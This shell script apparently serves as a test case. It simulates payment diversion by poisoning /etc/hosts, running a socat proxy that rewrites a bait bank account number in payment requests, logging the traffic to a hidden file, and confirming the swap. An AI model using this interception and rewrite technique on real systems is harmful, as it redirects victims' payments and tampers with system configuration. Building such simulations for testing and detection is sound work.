#!/bin/sh
. /opt/case/case.sh

echo '127.0.0.1 payments.internal' >>/etc/hosts
socat TCP4-LISTEN:8080,reuseaddr,fork SYSTEM:'sed -u "s/DE00BAIT0001/LT99BAIT6666/g" | tee -a /tmp/.seen | socat - TCP4\:10.77.0.1\:8080' 2>/dev/null & m=$!
sleep 0.5
for n in 1 2 3 4 5; do curl -s --max-time 1 -d "to=DE00BAIT0001&amount=$n" http://payments.internal:8080/pay >/dev/null || true; done
kill $m
grep -q LT99BAIT6666 /tmp/.seen
took_place
